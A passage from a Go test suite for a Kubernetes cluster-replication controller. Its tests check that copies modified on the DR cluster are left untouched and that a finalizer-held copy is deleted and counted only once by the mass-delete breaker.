		updateCR(ctx, cr, func(cr *v1alpha1.ClusterReplication) { cr.Annotations = map[string]string{"touch": "1"} })
		Consistently(func(g Gomega) {
			g.Expect(drGet(ctx, drNS, "shared", &cm)).To(Succeed())
			g.Expect(cm.ResourceVersion).To(Equal(rv), "no write")
			g.Expect(cm.Data).To(HaveKeyWithValue("local", "dr-only"))
		}).WithTimeout(2 * time.Second).Should(Succeed())
		Expect(firstTarget(crStatus(ctx, cr.Name)).Drifted).To(BeZero())
	})
})

var _ = Describe("Trust: a copy held by finalizers on DR", func() {
	It("is deleted once and counted once by the mass-delete breaker", func(ctx context.Context) {
		ns, cr, drNS := optIn(ctx, nil) // deletionPolicy Delete
		Expect(env.SourceClient.Create(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "held"}})).To(Succeed())
		var cm corev1.ConfigMap
		eventuallyOnDR(ctx, drNS, "held", &cm)
		cm.Finalizers = []string{"example.com/backup"}
		Expect(env.DRClient.Update(ctx, &cm, client.FieldOwner("backup-operator"))).To(Succeed())
		DeferCleanup(func(ctx context.Context) {
			if err := drGet(ctx, drNS, "held", &cm); err == nil {
				cm.Finalizers = nil
				_ = env.DRClient.Update(ctx, &cm)
			}
		})

		Expect(env.SourceClient.Delete(ctx, &corev1.ConfigMap{ObjectMeta: metav1.ObjectMeta{Namespace: ns.Name, Name: "held"}})).To(Succeed())
		Eventually(func() bool {
			return drGet(ctx, drNS, "held", &cm) == nil && cm.DeletionTimestamp != nil
		}).WithTimeout(wait).WithPolling(tick).Should(BeTrue(), "deleted, and held by its finalizer")
		deleted := func() int32 {
			var n int32
			for _, d := range firstTarget(crStatus(ctx, cr.Name)).RecentDeletions {
				n += d.Count
			}
			return n
		}
		Eventually(deleted).WithTimeout(wait).Should(Equal(int32(1)))
		for i := range 3 { // more passes while the copy stays Terminating
			updateCR(ctx, cr, func(cr *v1alpha1.ClusterReplication) { cr.Annotations = map[string]string{"touch": fmt.Sprint(i)} })
		}
		Consistently(deleted).WithTimeout(3 * time.Second).Should(Equal(int32(1)))
	})
})
